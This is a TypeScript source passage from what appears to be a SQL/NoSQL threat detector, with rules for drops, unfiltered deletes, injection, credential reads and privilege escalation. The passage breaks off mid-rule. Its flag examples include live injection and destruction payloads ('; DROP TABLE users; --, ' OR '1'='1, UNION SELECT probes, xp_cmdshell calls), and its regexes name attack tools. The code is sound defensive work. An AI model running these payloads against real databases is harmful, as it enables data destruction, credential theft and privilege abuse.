const PAYEE_CUES = [tagId('risk:payee'), tagId('risk:informal')];
/** The first payee-fraud cue of the shared lexicon in the query's comments ('' when none). */
function payeeCue(source: string): string {
  if (!source.includes('--') && !source.includes('/*')) return '';
  const note = foldAccents(commentsOf(source).toLowerCase());
  for (const h of scanTerms(note)) if (PAYEE_CUES.some((t) => h.tags.includes(t))) return note.slice(h.start, h.end);
  return '';
}
const APPROVAL_NOTE = /\b(?:ticket|approved|verified|per request|change request)\b|\b[a-z]{2,6}-[0-9]{2,6}\b/;

/** Every collection of a MongoDB database dropped in a loop. */
function dropAllCollections(ctx: QueryContext): Finding | undefined {
  const s = ctx.source.toLowerCase();
  if (!s.includes('getcollectionnames') && !s.includes('listcollections')) return undefined;
  return s.includes('.drop()') || s.includes('.drop(') ? { detail: 'every collection dropped in a loop', score: 9 } : undefined;
}

const envScore = (env: Env, prod: number, unknown: number, nonprod: number): number =>
  env === 'prod' ? prod : env === 'nonprod' ? nonprod : unknown;

const DROP_OBJ = /^drop (?:temporary )?(database|schema|table|keyspace|collection)(?: if exists)? (\S{1,120})/;
function dropFinding(ctx: QueryContext): Finding | undefined {
  let best: Finding | undefined;
  for (const st of ctx.sql.stmts) {
    const m = DROP_OBJ.exec(st.sk);
    if (m === null) continue;
    const kind = m[1]!;
    const name = m[2]!;
    // a scratch table is housekeeping unless CASCADE takes the objects built on it along
    if (st.sk.startsWith('drop temporary') || (kind === 'table' && isScratch(name) && !hasWord(st, 'cascade'))) continue;
    const score = kind === 'table' || kind === 'collection' ? envScore(ctx.env, 9, 8, 5) : envScore(ctx.env, 10, 9, 6);
    if (best === undefined || score > (best.score ?? 0)) best = { detail: `DROP ${kind.toUpperCase()} ${name}${ctx.env === 'prod' ? ' on production' : ''}`, score };
  }
  return best;
}

const TRUNCATE = /^truncate (?:table )?(?:only )?(\S{1,120})/;
const DELETE_FROM = /^delete (?:from )?(\S{1,120})/;
const UPDATE_SET = /^update (?:only )?(\S{1,120}) /;

function targetOf(st: Stmt, re: RegExp): string | undefined {
  const m = re.exec(st.sk);
  return m === null ? undefined : m[1];
}

function hasWord(st: Stmt, word: string): boolean {
  for (const t of st.toks) if (t.k === K.Word && t.v === word) return true;
  return false;
}

/** A Mongo delete whose whole filter is one field before the present moment ({ created: { $lt: new Date() } }). */
const MONGO_BEFORE_NOW = /\b(?:deletemany|remove)\(\s{0,2}\{\s{0,2}["']?([a-z_][a-z0-9_.]{0,40})["']?\s{0,2}:\s{0,2}\{\s{0,2}["']?\$lte?["']?\s{0,2}:\s{0,2}(?:new date\(\s{0,2}\)|date\.now\(\s{0,2}\)|isodate\(\s{0,2}\)|["']?\$\$now["']?)\s{0,2}\}\s{0,2}\}\s{0,2}\)/i;

/**
 * The batch cites a ticket or an approval (a comment "SEC-118", approval metadata). Only what it found is asked: the
 * payment lexicon's red flags ("temporary account" names a payee there) say nothing about a database login.
 */
function ticketCited(ctx: QueryContext): boolean {
  const r = readSafeguards(ctx.source.length > 4096 ? ctx.source.slice(0, 4096) : ctx.source, ctx.metadata);
  return r.found.has('ticket') || r.found.has('approved');
}

function unfiltered(ctx: QueryContext, verbRe: RegExp, verb: string, scores: [number, number, number]): Finding | undefined {
  for (const st of ctx.sql.stmts) {
    const target = targetOf(st, verbRe);
    if (target === undefined || isScratch(target)) continue;
    const constant = whereIsConstant(st.toks);
    // DELETE … USING / UPDATE … FROM joins still filter in WHERE; a missing WHERE is what matters
    if (!hasWord(st, 'where')) return { detail: `${verb} on ${target} with no WHERE clause`, score: envScore(ctx.env, ...scores) };
    // "WHERE id IN (SELECT id FROM t)" with nothing filtering the subquery keeps every row
    const whole = whereSelectsWholeTable(st.toks);
    if (whole !== undefined) return { detail: `${verb} on ${target} with WHERE ${whole}`, score: envScore(ctx.env, ...scores) };
    if (constant !== undefined) return { detail: `${verb} on ${target} with always-true WHERE ${constant}`, score: envScore(ctx.env, ...scores) + 1 };
  }
  return undefined;
}

const UNION_SELECT = /\bunion (?:all |distinct )?select (.{0,160})/;
const PAD_ITEM = /^\(? ?(?:null|[0-9]{1,3}|'s'|null :: \w{1,20}|cast \( null as \w{1,20} \)) ?\)?$/;
/** UNION SELECT NULL,NULL,3: every column a constant, the classic column-count probe. */
function isPadding(list: string): boolean {
  let end = list.length;
  for (const stop of [' from ', ' ; ', ' union ', ' order ', ' limit ']) {
    const at = list.indexOf(stop);
    if (at >= 0 && at < end) end = at;
  }
  const items = list.slice(0, end).split(',');
  if (items.length < 2) return items.length === 1 && /^(?:null|[0-9]{1,3})(?: --| #|$)/.test(items[0]!.trim());
  for (const it of items) if (!PAD_ITEM.test(it.trim())) return false;
  return true;
}
const LITERAL_CONDITION_UNION = / (?:and|or) \(? ?(?:-?[0-9]{1,9}|'s') ?(?:=|<>|!=|<|>) ?(?:-?[0-9]{1,9}|'s') ?\)? ?union\b/;
const INJECTED_UNION = /^(?:'s'|-?[0-9]{1,12}|\$p) \)? ?(?:and [^;]{0,40} )?union\b/;
const RECON = /\b(?:information_schema|pg_catalog|pg_tables|sqlite_master|sysobjects|syscolumns|sys\.tables|all_tables|user_tables|mysql\.user|pg_shadow|version \(|user \(|current_user|database \(|schema \(|group_concat|string_agg|load_file|password|passwd|concat \( 0x[0-9a-f]{1,40}|char \( [0-9]{2,3} ,)|@@(?:version|datadir|hostname|basedir|servername)/;

const CREDENTIAL_TABLE = /\b(?:pg_shadow|pg_authid|mysql\.user|sys\.sql_logins|sys\.syslogins|dba_users|sys\.user\$|master\.\.syslogins|auth_user)\b/;
const CREDENTIAL_COL = /\b(?:password|passwd|pwd|password_hash|passwordhash|hashed_password|encrypted_password|pass_hash|pw_hash|secret|client_secret|api_key|apikey|api_token|apitoken|access_token|accesstoken|refresh_token|refreshtoken|reset_token|resettoken|auth_token|authtoken|session_token|sessiontoken|clientsecret|private_key|privatekey|otp_secret|totp_secret|mfa_secret|ssn|credit_card|card_number|cvv)\b/;
const ONE_ROW = /^\S{1,60} = (?:\$p|'s'|[0-9]{1,12})(?: limit 1)?$/;
/**
 * A select list with its count(…) expressions (and the FILTER (WHERE …) that narrows one) taken out: what is left is
 * what the query reads out. Parentheses are matched by one scan, bounded by the list's length.
 */
function withoutCounts(list: string): string {
  if (!list.includes('count (')) return list;
  let out = '';
  let i = 0;
  for (let at = list.indexOf('count ('); at !== -1; at = list.indexOf('count (', i)) {
    out += list.slice(i, at);
    i = skipGroup(list, at + 6);
    if (list.startsWith(' filter (', i)) i = skipGroup(list, i + 8);
  }
  return out + list.slice(i);
}

/** The index just past the parenthesised group that opens at `open` (the list's end when it never closes). */
function skipGroup(s: string, open: number): number {
  let depth = 0;
  for (let k = open; k < s.length; k++) {
    if (s[k] === '(') depth++;
    else if (s[k] === ')' && --depth === 0) return k + 1;
  }
  return s.length;
}

/** [select list, first table, rest] of a SELECT skeleton, or undefined. */
function splitSelect(sk: string): [string, string, string] | undefined {
  if (!sk.startsWith('select ')) return undefined;
  const from = sk.indexOf(' from ');
  if (from < 0) return undefined;
  let list = sk.slice(7, from);
  if (list.startsWith('distinct ')) list = list.slice(9);
  const after = sk.slice(from + 6);
  const sp = after.indexOf(' ');
  return [list, sp < 0 ? after : after.slice(0, sp), sp < 0 ? '' : after.slice(sp)];
}

function credentialRead(ctx: QueryContext): Finding | undefined {
  for (const st of ctx.sql.stmts) {
    const sk = st.sk;
    if (!sk.startsWith('select') && !sk.includes(' union ') && !sk.includes('( select ')) continue;
    const sys = CREDENTIAL_TABLE.exec(sk);
    if (sys !== null) return { detail: `reads the database's credential catalogue ${sys[0]}`, score: 8 };
    let m = splitSelect(sk);
    // a column named only inside count(…) (and its FILTER clause) is counted, never read out
    let col = m === undefined ? null : CREDENTIAL_COL.exec(withoutCounts(m[0]));
    // subqueries too: ' || (SELECT password FROM users LIMIT 1) || '
    for (let at = sk.indexOf('( select '), n = 0; col === null && at >= 0 && n < 20; at = sk.indexOf('( select ', at + 9), n++) {
      m = splitSelect(sk.slice(at + 2));
      col = m === undefined ? null : CREDENTIAL_COL.exec(m[0]);
    }
    if (m === undefined || col === null) continue;
    // a single-row lookup by key (a login check) is narrower than dumping every hash
    const w = sk.lastIndexOf(' where ');
    const narrow = w > 0 && ONE_ROW.test(sk.slice(w + 7)) && !sk.includes(' or ');
    return { detail: `selects ${col[0]} from ${m[1]}${narrow ? ' for one row' : ' across rows'}`, score: narrow ? 4 : 7 };
  }
  return undefined;
}

const SLEEP_CALL = /\b(?:sleep|pg_sleep|pg_sleep_for|benchmark|dbms_lock\.sleep|dbms_pipe\.receive_message|randomblob) \(|\bwaitfor (?:delay|time)\b/;
// the database's own role catalogues count too (pg_authid.rolsuper, mysql.user's *_priv columns)
const ROLE_COLUMN = /^(?:role|roles|user_role|is_admin|isadmin|is_superuser|is_staff|admin|superuser|user_type|usertype|account_type|access_level|privilege|privileges|permission_level|group_id|rolname|rolsuper|rolcreaterole|rolbypassrls|rolreplication|super_priv|grant_priv|file_priv|process_priv|shutdown_priv)$/;
const BOOL_ROLE = /(?:admin|superuser|staff|rolsuper|rolcreaterole|rolbypassrls|rolreplication|_priv)$/;
const POWER_VALUE = /^(?:admin|administrator|owner|superuser|super_admin|superadmin|root|sysadmin|god|staff)$/i;
const NUMERIC_LEAD = /^-?[0-9]{1,12} \)? ?and /;
const COLUMN_PROBE = /^(?:'s' \)? ?)?(?:order|group) by [0-9]{1,3}\b/;
const ERROR_BASED = /\b(?:extractvalue|updatexml) \(|\bconvert \( int , \( ?select\b|\bfloor \( rand \( 0 \) \* 2 \)|\bexp \( ~ \( ?select\b|\bgeometrycollection \( \( ?select\b|\bctxsys\.drithsx\.sn \(|\butl_inaddr\.get_host_name \(/;
const CONDITION_CONTEXT = /\b(?:where|and|or|if|case|when|iif|then)\b/;

const BOUNDED = /\b(?:where|limit|fetch|group|join|offset)\b/;
const AGGREGATE = /\b(?:count|max|min|sum|avg) \(|^top\b/;
const PII_TABLE = /^(?:users?|customers?|clients?|patients?|employees?|members?|accounts?|contacts?|persons?|people|profiles?|payments?|credit_cards?|cards?|orders?|subscribers?|leads?|applicants?|students?|auth_users?)$/;

const STACKED = /' ?\)? ?; ?(?:drop|delete|update|insert|exec|execute|shutdown|create|alter|grant|truncate|declare|waitfor|select|copy)\b/i;
/** A clause that only continues another statement, at the very start of the value. */
const CLAUSE_LEAD = /^ {0,8}(?:order by|group by|having|and|or|union|where|procedure analyse)\b/i;
/** The quote a fragment opens with closes the literal, and a second statement follows at once (SQL Server needs no ';'). */
const STACKED_BARE = /^ {0,4}' ?\)? {1,4}(?:drop|delete|update|insert|exec|execute|shutdown|create|alter|grant|truncate|declare|backup)\b/i;
/** The value ends inside a comment (the injected `--` that swallows the rest of the original query). */
function endsInComment(s: string): boolean {
  const tail = s.slice(-240);
  const line = tail.slice(tail.lastIndexOf('\n') + 1);
  return line.includes('--') || line.includes('#') || line.includes('/*');
}

const GRANT_BROAD = /^grant (?:all|all privileges|super|file|process|shutdown|create user|reload|dba|sysadmin|control|alter any|impersonate)\b|^grant .{0,200}(?: on \* ?\. ?\*| to public\b| with grant option| with admin option)/;
const ROLE_POWER = /^(?:alter|create) (?:user|role|login) .{0,200}\b(?:superuser|createrole|bypassrls|replication|sysadmin|dba|db_owner|createdb)\b|^alter (?:server )?role (?:sysadmin|db_owner|securityadmin|dba|rds_superuser|cloudsqlsuperuser|azure_pg_admin) add member|^grant (?:superuser|postgres|root|sysadmin|rds_superuser|cloudsqlsuperuser|azure_pg_admin|dba|db_owner|pg_read_server_files|pg_write_server_files|pg_execute_server_program) to\b/;

const ALTER_CRED = /^(?:alter (?:user|role|login)|set password for)\b/;
const BUILTIN_ADMIN = /^(?:postgres|root|sa|admin|administrator|sys|system|rdsadmin|dbadmin|mysql\.sys)$/i;
const NOSQL_DESTROY = /\bdb\.dropdatabase \(|\bdb\.[\w$]{1,80}\.drop \( \)|\. ?(?:deletemany|remove|delete_many) \( \{ \} \)|^flushall\b|^flushdb\b|^match \( [a-z_]\w{0,20} \) (?:detach )?delete\b|\. dropdatabase \(|\bdb\.getcollection \( 's' \) \. drop \( \)|\. ?(?:runcommand|admincommand) \( \{ (?:dropdatabase : (?:1|true)|drop : 's') [,}]/;
/**
 * A literal every match of NOSQL_DESTROY holds, by alternative ('db.', '( { } )', 'dropdatabase', 'command ( {'), or
 * the skeleton's opening for the anchored ones: without one the regex cannot match, and is not tried at every
 * character of a long skeleton (on 64 KB of prose that was a twentieth of the check).
 */
const mayDestroyNoSql = (sk: string): boolean =>
  sk.includes('db.') || sk.includes('( { } )') || sk.includes('dropdatabase') || sk.includes('command ( {') || sk.startsWith('flush') || sk.startsWith('match ( ');
const NOSQL_OPERATOR = /["']?(?:password|passwd|pass|pwd|username|user|login|email|token)["']?\s{0,3}:\s{0,3}\{\s{0,3}["']?\$(?:ne|gt|gte|lt|regex|nin|exists|in|where)\b|\[\$(?:ne|gt|gte|lt|regex|nin|exists|where)\]/i;
const NOSQL_WHERE = /["']?\$where["']?\s{0,3}:/i;
const JS_PAYLOAD = /\b(?:sleep|function|this\.|return|while|process|require)\b/i;
const SP_ADDROLE = /\bsp_add(?:srv)?rolemember\b/;
/** Roles that hold the server (files, programs, every row) or the database whole. */
const POWER_ROLES: ReadonlySet<string> = new Set(['superuser', 'postgres', 'root', 'sysadmin', 'rds_superuser', 'cloudsqlsuperuser', 'azure_pg_admin', 'dba', 'db_owner', 'pg_read_server_files', 'pg_write_server_files',
  'pg_execute_server_program', 'pg_signal_backend', 'rds_admin', 'securityadmin', 'serveradmin']);
/** The roles a role grant hands out (`GRANT a , b TO x`; a privilege grant `… ON …` names no roles). */
function grantedRoles(sk: string): string[] {
  if (!sk.startsWith('grant ')) return [];
  const to = sk.indexOf(' to ');
  if (to === -1 || sk.lastIndexOf(' on ', to) !== -1) return [];
  return sk.slice(6, to).split(' , ').map((x) => x.trim()).slice(0, 16);
}
const POWER_ROLE = /^(?:sysadmin|db_owner|securityadmin|serveradmin|dbcreator)$/i;
const OS_EXEC = /\b(?:xp_cmdshell|sp_oacreate|sp_oamethod|sys_exec|sys_eval|lo_export|dbms_java|xp_regwrite|xp_dirtree|sp_execute_external_script)\b|\b(?:to|from) program\b|\blanguage (?:plpythonu|plpython3u|plperlu|c)\b|\bload_extension \(|\bdbms_scheduler\.create_job\b/;
const FILE_IO = /\binto (?:outfile|dumpfile)\b|\b(?:load_file|pg_read_file|pg_read_binary_file|pg_ls_dir|pg_stat_file|lo_import|openrowset|opendatasource|bfilename) \(|\butl_file\.|\bload data (?:local )?infile\b|\bbulk insert\b/;
const COPY_FILE = /^copy .{1,200} to 's'/;
const COPY_FROM = /^copy [^;]{1,200} from 's'/;
/** SQLite ATTACH or MySQL general/slow log pointed at a file: the classic way to drop a web shell. */
const FILE_TARGET_STMT = /^(?:attach (?:database )?'s' as\b|set (?:global |@@global\. ?|@@)?(?:general_log_file|slow_query_log_file) ?= ?'s')/;
/** A path the web server serves or runs (the query-log and ATTACH readings add /tmp, /etc and /root to these). */
const WEB_SERVED = /\.(?:php\d?|phtml|phar|jsp|jspx|asp|aspx|ashx|cgi|pl|py|sh)$|^\/var\/www\/|\/(?:htdocs|wwwroot|webroot|public_html|www)\/|^[a-z]:\\inetpub\\/i;

/**
 * `COPY (SELECT <named columns> FROM <table> …) TO '<path>'` whose columns and table name nothing about people, money
 * owed by them, health or credentials (the frame lexicon's classes, PII_TABLE, CREDENTIAL_COL), to a path the web
 * server neither serves nor runs: aggregate counts, stock levels, a product catalogue written for a report. A bare
 * table or `SELECT *` copies whatever the table holds and stays flagged.
 */
function routineCopy(st: { readonly sk: string; readonly toks: readonly { readonly k: number; readonly v: string }[] }): boolean {
  const sk = st.sk.length > 4000 ? st.sk.slice(0, 4000) : st.sk;
  const open = sk.indexOf('( select ');
  const to = sk.lastIndexOf(') to ');
  if (!sk.startsWith('copy ') || open < 0 || open > 8 || to < open) return false;
  const m = splitSelect(sk.slice(open + 2, to));
  // a string written into the select list is content the author chose (a cron line, a key), not a figure read out
  if (m === undefined || withoutCounts(m[0]).includes('*') || m[0].includes("'") || CREDENTIAL_COL.test(m[0]) || TOKEN_COL.test(m[0])) return false;
  const table = m[1].includes('.') ? m[1].slice(m[1].lastIndexOf('.') + 1) : m[1];
  if (PII_TABLE.test(table) || CREDENTIAL_STORE.test(table)) return false;
  const read = tagsIn(`${m[0].replace(/_/g, ' ')} from ${table.replace(/_/g, ' ')}`);
  if (PEOPLE_TAGS.some((t) => read.has(t))) return false;
  for (const t of st.toks) if (t.k === K.Str && (WEB_SERVED.test(t.v) || RUN_OR_SERVED.test(t.v))) return false;
  return true;
}
/** Tables that hold ways in rather than records: sessions, tokens, keys, the server's own role passwords. */
const CREDENTIAL_STORE = /^(?:sessions?|user_sessions|tokens?|auth_tokens?|api_keys?|apikeys|credentials?|secrets?|pg_shadow|pg_authid|oauth_[a-z_]{1,30})$/;
const TOKEN_COL = /\b(?:token|tokens|cookie|cookies)\b/;
/**
 * Where a written file is run, read at start-up or served beside the web server's own folders: system configuration,
 * cron, a shell's start-up files, ssh keys, an app's static or upload folder, a web root named html.
 */
const RUN_OR_SERVED = /^\/(?:etc|root|bin|sbin|boot|lib|lib64)\/|^\/usr\/(?:bin|sbin|lib|local\/bin)\/|\/\.ssh\/|authorized_keys|\/cron|\/\.[a-z_]{1,16}rc$|\/\.(?:profile|bash_profile|bash_login)$|\/(?:static|public|uploads|assets|media|html)\//i;

const WEB_FILE = /\.(?:php\d?|phtml|phar|jsp|jspx|asp|aspx|ashx|cgi|pl|py|sh)$|^\/var\/www\/|\/(?:htdocs|wwwroot|webroot|public_html|www)\/|^\/(?:etc|root|tmp|dev\/shm)\/|^[a-z]:\\inetpub\\/i;

const DISABLE_GUARD = /\bset (?:session |global |@@)?(?:foreign_key_checks|unique_checks) ?= ?(?:0|off|false)\b|\bsession_replication_role ?= ?(?:'s'|replica)|\bdisable (?:trigger|row level security|keys)\b|\bno ?check constraint\b|\bnocheck constraint\b|\bset (?:global |session )?(?:sql_log_bin|general_log|sql_safe_updates) ?= ?(?:0|off|false)\b|\bno force row level security\b|\bpgaudit\.log ?= ?'s'/;

const DROP_COLUMN = /^alter table (?:if exists )?(?:only )?(\S{1,120}) .{0,200}\bdrop (?:column )?(?!constraint|index|primary|foreign|default|not\b|partition|check|key)(\S{1,80})/;
const DROP_MINOR = /^drop (index|view|materialized view|function|procedure|trigger|sequence|user|role|login|policy|extension|type)\b(?: concurrently)?(?: if exists)? (\S{1,120})/;

const SHUTDOWN = /^shutdown\b|\bpg_terminate_backend \(|^alter system\b|\bpg_ctl\b|^kill (?:query |connection )?[0-9]/;

/** Statements a rehearsal may hold between BEGIN and ROLLBACK: data reads and writes, which every engine rolls back. */
const REHEARSAL_BODY = ['select ', 'insert ', 'update ', 'delete ', 'with ', 'savepoint ', 'release ', 'rollback to ', 'set local ', 'explain '];
const OPENS_TRANSACTION = ['begin', 'begin ', 'start transaction', 'begin transaction', 'begin work'];
const ROLLBACKS = new Set(['rollback', 'rollback work', 'rollback transaction', 'abort']);

/**
 * The input is one transaction that it rolls back itself: BEGIN, data statements only (DDL commits on its own in
 * MySQL and Oracle), ROLLBACK last, no COMMIT. Its writes are a rehearsal ("run the UPDATE, look, roll back").
 */
function rolledBack(ctx: QueryContext): boolean {
  const st = ctx.sql.stmts.filter((x) => x.sk.trim() !== '');
  if (st.length < 3) return false;
  const first = st[0]!.sk.trim();
  const last = st[st.length - 1]!.sk.trim();
  if (!OPENS_TRANSACTION.some((o) => first === o.trim() || first.startsWith(o)) || !ROLLBACKS.has(last)) return false;
  for (let i = 1; i < st.length - 1; i++) if (!REHEARSAL_BODY.some((b) => st[i]!.sk.trimStart().startsWith(b))) return false;
  return true;
}

/** The rules made quiet on a rolled-back rehearsal, except for what they find read out (EXFILTRATION). */
function quietWhenRolledBack(rules: ThreatRule<QueryContext>[]): ThreatRule<QueryContext>[] {
  return rules.map((r) => {
    const rolled = (ctx: QueryContext, found: Finding | string | true): boolean => {
      const primitive = typeof found === 'object' && found.primitive !== undefined ? found.primitive : r.primitive;
      return primitive !== 'EXFILTRATION' && ctx.sql.stmts.length >= 3 && rolledBack(ctx);
    };
    const prior = r.veto;
    return { ...r, veto: prior === undefined ? rolled : (ctx: QueryContext, f: Finding | string | true) => prior(ctx, f) || rolled(ctx, f) };
  });
}

const queryAnalyzer: Analyzer<QueryContext> = {
  type: 'query',
  letter: 'Q',
  prepare,
  // writes inside a transaction the same input rolls back change nothing (reads still leave: EXFILTRATION stays)
  rules: quietWhenRolledBack([
    QUERY_FRAME_RULE as ThreatRule<QueryContext>,
    {
      id: 'Q01',
      name: 'Drop of a database, schema or table',
      primitive: 'DESTRUCTION',
      score: 8,
      keywords: ['drop'],
      detect: (ctx) => dropFinding(ctx),
      examples: {
        flag: ['DROP TABLE users;', 'drop   database  shop', 'DROP/**/TABLE customers', { value: 'DROP SCHEMA public CASCADE', metadata: { environment: 'production' } }],
        pass: ["SELECT 'DROP TABLE users' AS example", 'DROP TABLE IF EXISTS tmp_import_20240101', '-- drop table users later\nSELECT 1', 'DROP INDEX idx_orders_created'],
      },
    },
    {
      id: 'Q02',
      name: 'Table truncation',
      primitive: 'DESTRUCTION',
      score: 8,
      keywords: ['truncate'],
      detect: (ctx) => {
        for (const st of ctx.sql.stmts) {
          const t = targetOf(st, TRUNCATE);
          if (t !== undefined && !isScratch(t)) return { detail: `TRUNCATE ${t}`, score: envScore(ctx.env, 9, 8, 5) };
        }
        return undefined;
      },
      examples: {
        flag: ['TRUNCATE TABLE orders', 'truncate payments cascade;'],
        pass: ['TRUNCATE TABLE tmp_events_import', "SELECT * FROM logs WHERE message LIKE '%truncate%'"],
      },
    },
    {
      id: 'Q03',
      name: 'DELETE without an effective WHERE clause',
      primitive: 'DESTRUCTION',
      score: 8,
      keywords: ['delete'],
      detect: (ctx) => unfiltered(ctx, DELETE_FROM, 'DELETE', [9, 8, 5]),
      examples: {
        flag: ['DELETE FROM customers', 'delete from orders where 1=1', "DELETE FROM users WHERE 'a'='a'", "DELETE FROM orders WHERE created_at > '1900-01-01'", 'DELETE FROM invoices WHERE id > 0', 'DELETE FROM customers WHERE id IS NOT NULL',
          // a bound in the future keeps every row already written
          "DELETE FROM customer_orders WHERE created_at < now() + interval '1 day'", "DELETE FROM visits WHERE visit_at > now() - interval '80 years'"],
        pass: ['DELETE FROM sessions WHERE expires_at < now()', 'SELECT id FROM users WHERE deleted_at IS NULL', 'DELETE FROM carts WHERE 1=1 AND user_id = $1', "DELETE FROM audit_events WHERE created_at < now() - interval '400 days'",
          "DELETE FROM customer_orders WHERE created_at < now() + interval '-30 days'", "DELETE FROM visits WHERE visit_at > now() - interval '2 years' AND status = 'draft'"],
      },
    },
    {
      id: 'Q04',
      name: 'UPDATE without an effective WHERE clause',
      primitive: 'DESTRUCTION',
      score: 7,
      keywords: ['update'],
      detect: (ctx) => unfiltered(ctx, UPDATE_SET, 'UPDATE', [8, 7, 4]),
      examples: {
        flag: ["UPDATE users SET role = 'admin'", "update accounts set balance = 0 where 1 = 1"],
        pass: ['UPDATE users SET last_login = now() WHERE id = 42', 'SELECT updated_at FROM users', "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2 WHERE t.a = 1"],
      },
    },
    {
      id: 'Q05',
      name: 'UNION-based SQL injection',
      primitive: 'EXFILTRATION',
      score: 8,
      keywords: ['union'],
      pattern: UNION_SELECT,
      detect: (ctx, m) => {
        const list = m![1]!;
        if (isPadding(list)) return `UNION SELECT padded with constant columns: ${list.slice(0, 40)}`;
        const r = RECON.exec(list);
        if (r !== null) return `UNION SELECT reaching ${r[0]}`;
        // UNION appended to an injected value (1' UNION …, -1 UNION …) is injection whatever it selects
        if (ctx.fragment || INJECTED_UNION.test(ctx.text)) return 'UNION SELECT appended to an injected value';
        // WHERE name = '1234' AND 1=0 UNION …: a condition over literals alone right before UNION switches the
        // real rows off so that only the appended SELECT's rows come back
        if (LITERAL_CONDITION_UNION.test(ctx.text)) return 'UNION SELECT after an always-false condition over literals';
        return undefined;
      },
      examples: {
        flag: ["SELECT id, email FROM users WHERE username = '1234 ' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055' AND active = 1", "1' UNION SELECT NULL,NULL,NULL--", "SELECT name FROM products WHERE id = 1 UNION ALL SELECT table_name, 2 FROM information_schema.tables", "x' union select username, password from users -- "],
        pass: ['SELECT id, name FROM customers UNION SELECT id, name FROM leads', 'SELECT a, NULL AS b FROM t1 UNION ALL SELECT c, d FROM t2', "SELECT id FROM a WHERE kind = 'x' AND year = 2024 UNION SELECT id FROM b WHERE kind = 'x'"],
      },
    },
    {
      id: 'Q06',
      name: 'Stacked-query injection',
      primitive: 'MANIPULATION',
      score: 8,
      keywords: [';'],
      detect: (ctx) => {
        const m = STACKED.exec(ctx.source.slice(0, 65536)) ?? (ctx.fragment ? STACKED_BARE.exec(ctx.source.slice(0, 200)) : null);
        if (m === null) return undefined;
        if (!ctx.fragment && !endsInComment(ctx.source)) return undefined;
        return `quote closed then a second statement: ${m[0].replace(/\s+/g, ' ')}`;
      },
      examples: {
        flag: ["'; DROP TABLE users; --", "1'); DELETE FROM orders; #", "Robert'); DROP TABLE students;--", "' insert into mysql.user (user, host) values ('eve', '%') --", "') exec master..xp_cmdshell 'whoami'--"],
        pass: ["INSERT INTO notes (body) VALUES ('hi'); SELECT count(*) FROM notes;", "UPDATE t SET a = 'x' WHERE id = 2; DELETE FROM q WHERE id = 3"],
      },
    },
    {
      id: 'Q07',
      name: 'Tautology or comment-truncation injection',
      // the effect on the victim: the query returns rows it was written to withhold
      primitive: 'EXFILTRATION',
      score: 8,
      detect: (ctx) => {
        if (ctx.sql.tautology !== undefined) return `always-true condition ${ctx.sql.tautology}`;
        if (ctx.sql.truncation) return 'comment after a quoted value cuts off the rest of the condition';
        // `1 AND 1=2`: a bare number followed by a condition is an injected value too
        if (!ctx.fragment && !NUMERIC_LEAD.test(ctx.text)) return undefined;
        if (COLUMN_PROBE.test(ctx.text)) return { detail: 'ORDER BY <n> column-count probe on an injected value', score: 6 };
        // ' AND '1'='1 / 1 AND 1=2 / ' AND (SELECT …): true/false inference on an injected value
        // ' || (SELECT version()) || ' / ' AND 1=(SELECT …) / ' RLIKE (SELECT …): a subquery injected through the quote
        if (ctx.fragment && ctx.text.includes('( select ')) return { detail: 'subquery injected into a quoted value', score: 6 };
        if (!ctx.text.includes(' and ')) return undefined;
        for (const st of ctx.sql.stmts) {
          const p = findAndProbe(st.toks);
          if (p !== undefined) return { detail: `boolean-based blind probe ${p} on an injected value`, score: 5 };
        }
        return undefined;
      },
      examples: {
        flag: ["' OR '1'='1", "SELECT * FROM users WHERE name = '' OR 1=1 --'", "admin'--", 'SELECT id FROM users WHERE username = "admin" --" AND password = "x"', "') or ('x')=('x", "' or 'one'='one--", "'or'1=1", "' or username like '%", "' or ''-'", "' group by password having 1=1--", "SELECT * FROM accounts WHERE id = 7 OR 2>1", "7' AND 'b'='b", '12 AND 3=4', "x' AND ASCII(SUBSTR((SELECT name FROM t),1,1))>70 AND 'a'='a", "z'+(SELECT TOP 1 name FROM sys.databases)+'", "' or 2 like 2--"],
        pass: ["SELECT * FROM users WHERE status = 'active' OR status = 'trial'", 'SELECT * FROM t WHERE 1=1 AND org_id = $1', "SELECT name FROM t WHERE (kind = 'a') OR (kind = 'b')", "SELECT dept, count(*) FROM staff GROUP BY dept HAVING count(*) > 1", "SELECT * FROM t WHERE name LIKE '%son' OR name LIKE 'Mc%'", "SELECT * FROM t WHERE a = 'x' OR b = 'y'", "SELECT * FROM t WHERE a = 'x' -- filter by a", "SELECT * FROM t WHERE kind = 'a' AND 1=1"],
      },
    },
    {
      id: 'Q08',
      name: 'Database privilege escalation',
      primitive: 'ESCALATION',
      score: 8,
      keywords: ['grant', 'alter user', 'alter role', 'create user', 'create role', 'sp_add', 'alter login', 'create login', 'alter server role'],
      detect: (ctx) => {
        for (const st of ctx.sql.stmts) {
          if (SP_ADDROLE.test(st.sk)) {
            for (const t of st.toks) if (t.k === K.Str && POWER_ROLE.test(t.v)) return { detail: `${t.v.toLowerCase()} role membership added`, score: 9 };
          }
          const r = ROLE_POWER.exec(st.sk);
          if (r !== null) return { detail: `role/user given superuser-class rights: ${r[0].slice(0, 80)}`, score: 9 };
          // a list of roles granted at once (GRANT pg_write_server_files, pg_execute_server_program TO app)
          const listed = grantedRoles(st.sk).find((x) => POWER_ROLES.has(x));
          if (listed !== undefined) return { detail: `role/user given superuser-class rights: ${listed}`, score: 9 };
          if (ALTER_CRED.test(st.sk) && /\b(?:password|identified)\b/.test(st.sk)) {
            for (const t of st.toks) {
              if ((t.k === K.Str || t.k === K.Word) && BUILTIN_ADMIN.test(t.v)) return { detail: `password of built-in admin account ${t.v.toLowerCase()} changed`, score: 5 };
            }
          }
          const g = GRANT_BROAD.exec(st.sk);
          if (g !== null) return { detail: `broad GRANT: ${g[0].slice(0, 80)}`, score: envScore(ctx.env, 9, 8, 6) };
        }
        return undefined;
      },
      examples: {
        flag: ['GRANT ALL PRIVILEGES ON *.* TO \'eve\'@\'%\'', 'ALTER USER app WITH SUPERUSER', 'GRANT pg_write_server_files, pg_execute_server_program TO app_readonly', 'GRANT postgres TO contractor', 'CREATE ROLE ops LOGIN SUPERUSER PASSWORD \'x\'', "EXEC sp_addsrvrolemember 'bob', 'sysadmin'"],
        pass: ['GRANT SELECT ON reports.daily TO analyst_ro', 'GRANT pg_read_all_stats, pg_monitor TO metrics_agent', "ALTER USER app_ro SET search_path = 'reporting'", "CREATE USER reporting WITH PASSWORD 'x'"],
      },
    },
    {
      id: 'Q09',
